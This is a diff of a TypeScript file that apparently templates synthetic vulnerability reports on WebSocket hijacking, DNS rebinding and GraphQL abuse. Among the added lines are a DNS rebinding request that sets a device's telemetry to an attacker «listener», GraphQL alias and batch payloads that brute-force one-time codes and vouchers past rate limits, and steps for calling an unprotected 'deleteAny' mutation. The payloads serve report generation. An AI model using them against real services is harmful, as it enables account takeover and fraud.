@@ -20,6 +20,7 @@ const socketHijack: VulnerabilityClass = {
     'Cross-site WebSocket hijacking on wss://«host»«path»',
     'WebSocket «path» does not check the origin, messages of the victim can be read',
     'CSWSH: «detail» of a signed-in «customer» from any page',
+    'Any page can listen to «detail» of its visitor (wss://«host»«path»)',
   ],
   summaries: [
     'The handshake of `«path»` trusts the cookie and does not look at `Origin`. A foreign page opens the socket in the name of the visitor and reads along.',
@@ -72,21 +73,35 @@ const dnsRebinding: VulnerabilityClass = {
     ['Medium', 5],
   ],
   places: [
-    { method: 'POST', path: '/api/config', parameter: 'Host', detail: 'the local web interface' },
-    { method: 'POST', path: '/rpc', parameter: 'Host', detail: 'the debug port of the command line tool' },
+    {
+      method: 'POST',
+      path: '/api/config',
+      parameter: 'Host',
+      detail: 'the local web interface',
+      on: ['device'],
+    },
+    {
+      method: 'POST',
+      path: '/rpc',
+      parameter: 'Host',
+      detail: 'the local port of the command line tool',
+      on: ['code'],
+    },
   ],
   titles: [
     'DNS rebinding reaches «detail» of «target» from any website',
     '«target»: «detail» does not check the Host header (DNS rebinding)',
     'A website can reconfigure «target» in the local network',
+    'Missing check of Host: «detail» of «target» answers to strangers',
   ],
   summaries: [
-    '«Detail» answers to every host name. A website can change where its own name points to and then talk to the device in the visitor’s network.',
+    '«Detail» answers to every host name. A website can change where its own name points to and then talk to «target» in the visitor’s network.',
+    '«Detail» of «target» trusts whoever reaches it and does not look at `Host`. With DNS rebinding a website reaches it.',
   ],
   steps: [
     [
-      'Visit the page at `rebind.«attacker»` from the same network as the device.',
-      'Wait about a minute until the name points to `192.168.1.20`.',
+      'Visit the page at `rebind.«attacker»` from the same network.',
+      'Wait about a minute until the name points to the private address.',
       'The page reads the configuration and shows it.',
     ],
   ],
@@ -100,7 +115,7 @@ Host: rebind.«attacker»
 Origin: http://rebind.«attacker»
 Content-Type: application/json
 
-{"mqttServer":"«listener»"}
+{"telemetry":"https://«listener»"}
 
 HTTP/1.1 200 OK
 Server: «server»
@@ -110,11 +125,11 @@ Server: «server»
     ],
   ],
   impacts: [
-    'A visit to a website changes the settings of a device at home, which then reports to the attacker.',
+    'A visit to a website changes settings at home or on a developer’s machine, which then reports to the attacker.',
   ],
-  fixes: ['Refuse requests whose `Host` is not the device’s own address or name.'],
+  fixes: ['Refuse requests whose `Host` is not an own address or name.'],
   notes: [
-    'Took 70 s in Firefox with a TTL of 1. Works, also with the default settings of the router in the lab.',
+    'Took 70 s in Firefox with a TTL of 1. Works with the router in the lab, the one with rebinding protection stops it.',
   ],
 }
 
@@ -131,71 +146,84 @@ const graphql: VulnerabilityClass = {
     ['Low', 3],
   ],
   places: [
-    { method: 'POST', path: '/graphql', parameter: 'alias', detail: 'aliases' },
-    { method: 'POST', path: '/graphql', parameter: 'batch', detail: 'arrays of queries' },
+    {
+      method: 'POST',
+      path: '/graphql',
+      parameter: 'alias',
+      detail: 'aliases',
+      excerpt: `mutation {
+  a0: verifyCode(user: "«me»", code: "000000") { ok }
+  a1: verifyCode(user: "«me»", code: "000001") { ok }
+  a2: verifyCode(user: "«me»", code: "000002") { ok }
+}
+# 1,000 lines like these; answer after 2.4 s:
+# {"data":{"a0":{"ok":false},"a1":{"ok":false},"a2":{"ok":true},…}}   X-RateLimit-Remaining: 59`,
+    },
+    {
+      method: 'POST',
+      path: '/graphql',
+      parameter: 'batch',
+      detail: 'arrays of operations',
+      excerpt: `[
+  {"query":"mutation { redeem(code: \\"AAAA-0000\\") { ok } }"},
+  {"query":"mutation { redeem(code: \\"AAAA-0001\\") { ok } }"},
+  {"query":"mutation { redeem(code: \\"AAAA-0002\\") { ok } }"}
+]
+# 500 in one request, counted as one: X-RateLimit-Remaining: 59`,
+    },
     {
       method: 'POST',
       path: '«api»/graphql',
       parameter: '__schema',
-      detail: 'introspection with hidden mutations',
+      detail: 'introspection',
+      titles: [
+        'Introspection shows `deleteAny«TypeName»` and it works for a «customer»',
+        'GraphQL schema of «host» gives away internal mutations without checks',
+      ],
+      summaries: [
+        'The schema can be read by everybody. It names `deleteAny«TypeName»`, "internal, do not use in clients", which does not check rights.',
+        'Through introspection I found mutations that the app never sends. At least one of them works with the session of a «customer».',
+      ],
+      steps: [
+        [
+          'Send the usual introspection query to `«path»`.',
+          'Look for mutations that the app does not use.',
+          'Call `deleteAny«TypeName»` with a «one» of your own second account: it is gone.',
+        ],
+      ],
+      excerpt: `{ __schema { mutationType { fields { name description } } } }
+
+{"mutationType":{"fields":[
+  {"name":"update«TypeName»"},
+  {"name":"deleteAny«TypeName»","description":"internal, do not use in clients"},
+  {"name":"impersonate","description":"«staffRole» only"}
+]}}`,
     },
   ],
   titles: [
-    'GraphQL «parameter» bypasses the rate limit: 1,000 codes in one request',
-    'GraphQL: «detail» at «host»«path»',
-    'Brute force through GraphQL «detail»',
-    'Introspection shows `deleteAny«TypeName»` and it works for a «customer»',
+    'GraphQL «detail» bypass the rate limit: hundreds of tries in one request',
+    'Brute force through GraphQL «detail» at «host»«path»',
+    'Rate limit counts requests, GraphQL «detail» hide the tries',
+    'GraphQL: unlimited «detail» (`«path»`)',
   ],
   summaries: [
     'The limit of `«path»` counts requests, not operations. With «detail» one request tries hundreds of values.',
-    'Through «detail» the schema gives away mutations that the app never uses, and at least one of them does not check rights.',
+    '`«path»` takes any number of operations at once («detail»). One-time codes and vouchers can be guessed that way.',
   ],
   steps: [
     [
-      'Send the query below with your own account as the user.',
-      'Each alias has its own answer. One of them is `true`.',
+      'Send what is shown below with your own account as the user.',
+      'Each part has its own answer. One of them is `true`.',
       'The limit header went down by one.',
     ],
   ],
-  proofs: [
-    [
-      {
-        say: 'Shortened, the real one has 1,000 lines:',
-        lang: 'graphql',
-        code: `mutation {
-  a0: verifyCode(user: "«me»", code: "000000") { ok }
-  a1: verifyCode(user: "«me»", code: "000001") { ok }
-  a2: verifyCode(user: "«me»", code: "000002") { ok }
-}`,
-      },
-      {
-        say: 'Answer:',
-        lang: 'http',
-        code: 'HTTP/2 200\nX-RateLimit-Remaining: 59\n\n{"data":{"a0":{"ok":false},"a1":{"ok":false},"a2":{"ok":true}}}',
-      },
-    ],
-    [
-      {
-        say: 'From the schema:',
-        lang: 'json',
-        code: `{
-  "mutationType": { "fields": [
-    { "name": "update«TypeName»" },
-    { "name": "deleteAny«TypeName»", "description": "internal, do not use in clients" },
-    { "name": "impersonate" }
-  ] }
-}`,
-      },
-    ],
-  ],
+  proofs: [[{ say: 'Shortened:', lang: 'graphql', code: '«excerpt»' }]],
   impacts: [
-    'One-time codes, coupons and PINs can be guessed in seconds.',
-    'Operations meant for «staffRole»s are known to everybody and partly work.',
+    'One-time codes, coupons and PINs can be guessed in seconds, and nothing of it shows in the number of requests.',
+    'The limits that protect accounts and money have no effect on this endpoint.',
   ],
   fixes: ['Limit by the cost of the query, and the number of aliases and of operations in a batch.'],
-  notes: [
-    '1,000 aliases answered in 2.4 s. Code lives for five minutes, so it is guessable. Depth limit exists, alias limit does not.',
-  ],
+  notes: ['Reproduced on sandbox. Depth limit exists, a limit for the number of operations does not.'],
 }
 
 export const realtimeClasses: readonly VulnerabilityClass[] = [socketHijack, dnsRebinding, graphql]
